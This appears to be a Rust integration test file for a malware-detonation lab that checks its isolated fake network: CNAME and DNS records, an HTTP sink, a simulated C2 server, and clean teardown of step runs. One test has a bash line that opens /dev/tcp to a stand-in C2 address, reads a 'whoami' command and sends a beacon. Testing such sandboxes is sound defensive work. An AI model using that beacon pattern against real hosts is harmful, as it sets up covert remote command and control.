//! The lab network through its Rust API, live (namespaces, so root). Under
//! `CI=true` these fail when they cannot run; elsewhere they print why and skip.

mod common {
    pub mod leftovers;
}

use std::io::{BufRead, BufReader};
use std::os::fd::RawFd;
use std::process::{Command, Stdio};

use common::leftovers::{can_isolate, ns_users};
use ioclab_lab::network::{LabNetConfig, LabNetwork};
use ioclab_sandbox::detonation::{DnsRecord, DnsRecordData};
use ioclab_sandbox::fakenet::{Service, ServiceKind};

fn blog_records() -> Vec<DnsRecord> {
    vec![
        DnsRecord { name: "why.kunai.rocks".into(), data: DnsRecordData::CNAME("kunai-project.github.io".into()) },
        DnsRecord { name: "kunai-project.github.io".into(), data: DnsRecordData::A([127, 0, 66, 80].into()) },
    ]
}

fn output(net: &LabNetwork, script: &str) -> (bool, String) {
    let mut cmd = Command::new("bash");
    cmd.args(["-c", script]).stdout(Stdio::piped()).stderr(Stdio::piped());
    let out = net.spawn(&mut cmd).expect("spawn inside").wait_with_output().unwrap();
    (out.status.success(), String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr))
}

/// `net:[inode]` of the namespace behind `fd`.
fn ns_link(fd: RawFd) -> String {
    std::fs::read_link(format!("/proc/self/fd/{fd}")).unwrap().to_string_lossy().into_owned()
}

#[test]
fn scenario_services_answer_and_everything_goes_away_at_stop() {
    if !can_isolate() {
        return;
    }
    let services = vec![
        Service {
            ip: Some([127, 0, 66, 80].into()),
            port: 80,
            kind: ServiceKind::Http { body: b"Kunai rocks!\n".to_vec(), content_type: "text/plain".into() },
        },
        Service {
            ip: Some([198, 51, 100, 7].into()),
            port: 4444,
            kind: ServiceKind::C2 { send: b"whoami\n".to_vec() },
        },
    ];
    let net = LabNetwork::start(LabNetConfig { records: blog_records(), services }).expect("lab network");
    let link = ns_link(net.netns_fd());

    // the page the scenario gave, by name through the CNAME; other addresses keep the sink's
    let (ok, page) = output(&net, "curl -s -m 5 http://why.kunai.rocks/");
    assert!(ok && page == "Kunai rocks!\n", "{page}");
    let (ok, page) = output(&net, "curl -s -m 5 http://203.0.113.5/");
    assert!(ok && page.contains("ioclab sink"), "{page}");

    // the C2 sends its command and keeps the connection while the client beacons
    let mut client = Command::new("bash");
    client.args([
        "-c",
        "exec 3<>/dev/tcp/198.51.100.7/4444; read -r cmd <&3; echo \"got $cmd\"; echo beacon-1 >&3; cat <&3",
    ]);
    client.stdout(Stdio::piped());
    let mut client = net.spawn(&mut client).expect("C2 client");
    let mut line = String::new();
    BufReader::new(client.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "got whoami\n");
    let beacon = loop {
        if let Some(f) = net.log().tcp.iter().find(|f| f.dst.to_string() == "198.51.100.7:4444" && f.bytes > 0) {
            break f.clone();
        }
        std::thread::yield_now();
    };
    assert_eq!(beacon.head, b"beacon-1\n");
    assert!(client.try_wait().unwrap().is_none(), "the C2 keeps the client connected");

    // resolv.conf inside is the lab's, the host's is untouched
    let (_, conf) = output(&net, "cat /etc/resolv.conf");
    assert!(conf.contains("nameserver 127.0.0.53"), "{conf}");
    assert!(!std::fs::read_to_string("/etc/resolv.conf").unwrap().contains("ioclab fake internet"));

    let log = net.stop();
    assert!(log.http.iter().any(|h| h.host == "why.kunai.rocks" && h.dst.to_string() == "127.0.66.80:80"), "{log:?}");
    assert!(log.dead_hosts.is_empty(), "port 4444 is served: {:?}", log.dead_hosts);
    // the still-connected client was killed with the network, and nothing holds the namespace
    assert!(client.wait().unwrap().code().is_none(), "killed by a signal");
    assert!(ns_users(&link).is_empty(), "{link}: {:?}", ns_users(&link));
}

#[test]
fn the_resolver_port_is_not_a_service() {
    if !can_isolate() {
        return;
    }
    let services = vec![Service { ip: None, port: 53, kind: ServiceKind::C2 { send: Vec::new() } }];
    let err = LabNetwork::start(LabNetConfig { records: Vec::new(), services }).unwrap_err().to_string();
    assert!(err.contains("port 53 is the resolver's"), "{err}");
}

fn step(id: &str, command: &str, timeout_secs: u32) -> ioclab_lab::engine::remote::OrderedStep {
    ioclab_lab::engine::remote::OrderedStep {
        id: id.parse().unwrap(),
        executor: ioclab_lab::scenario::Executor::Bash,
        command: command.into(),
        timeout_secs,
    }
}

/// Whether process `pid` is alive (not a zombie).
fn running(pid: &str) -> bool {
    common::leftovers::alive(pid)
}

#[test]
fn a_steps_order_runs_as_on_a_remote_endpoint_killed_at_its_timeout_with_nothing_left() {
    if !can_isolate() {
        return;
    }
    use ioclab_lab::engine::remote::StepsOrder;
    use ioclab_lab::engine::step_exec::run_order;
    // the shipped DNS scenario's network, as the order carries it over the wire
    let loaded = ioclab_lab::scenario::load::load(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../lab-scenarios/dns-ioc-why-kunai-rocks"),
    )
    .unwrap();
    let order = StepsOrder {
        scenario: loaded.scenario.id.clone(),
        run: "r1".into(),
        network: loaded.scenario.network.clone(),
        steps: vec![
            step("resolve", "dig +short why.kunai.rocks A; echo oops >&2; exit 3", 10),
            step("hang", "sleep 600 & echo bg=$!; sleep 600", 1),
        ],
    };
    let order: StepsOrder = serde_json::from_str(&serde_json::to_string(&order).unwrap()).unwrap();
    let before: Vec<_> = work_folders();
    let out = run_order(&order, &|| false).unwrap();
    assert_eq!(out.len(), 2);
    assert_eq!(out[0].exit_code, Some(3), "{out:?}");
    // the lab resolver answered (the record's CNAME target, the address the scenario gave)
    assert!(out[0].output.iter().any(|l| l.starts_with("127.0.66.80")), "{out:?}");
    assert!(out[0].output.contains(&"oops".to_string()), "{out:?}");
    assert_eq!(out[0].to_string().split(' ').take(3).collect::<Vec<_>>(), ["resolve", "exited", "3"]);
    assert_eq!(out[1].exit_code, None, "killed at its timeout: {out:?}");
    let bg = out[1].output.iter().find_map(|l| l.strip_prefix("bg=")).expect("the background pid").to_string();
    assert!(!running(&bg), "the step's background child {bg} outlived it");
    assert_eq!(work_folders(), before, "the work folder is removed");
    let own = format!("resolv-{}-", std::process::id());
    let files: Vec<_> = std::fs::read_dir("/run/ioclab-lab")
        .map(|d| d.flatten().filter(|f| f.file_name().to_string_lossy().starts_with(&own)).collect())
        .unwrap_or_default();
    assert!(files.is_empty(), "lab network files left: {files:?}");
    let fds: Vec<_> = std::fs::read_dir("/proc/self/fd")
        .unwrap()
        .flatten()
        .filter_map(|f| std::fs::read_link(f.path()).ok())
        .filter(|l| l.to_string_lossy().starts_with("net:[") || l.to_string_lossy().starts_with("mnt:["))
        .collect();
    assert!(fds.is_empty(), "namespaces still held: {fds:?}");

    // a service whose body is a file of the scenario cannot be served there: refused, nothing run
    let mut with_file = order.clone();
    with_file.network = serde_json::from_value(serde_json::json!({"services": [
        {"id": "stager", "kind": "http_sink", "address": "127.0.44.80", "port": 80, "body": "stage2.b64"}
    ]}))
    .unwrap();
    let e = run_order(&with_file, &|| false).unwrap_err();
    assert!(e.contains("stage2.b64") && e.contains("not sent to a remote endpoint"), "{e}");
}

/// The steps' work folders in the temporary folder.
fn work_folders() -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .map(|f| f.path())
        .filter(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with("ioclab-steps-")))
        .collect();
    v.sort();
    v
}
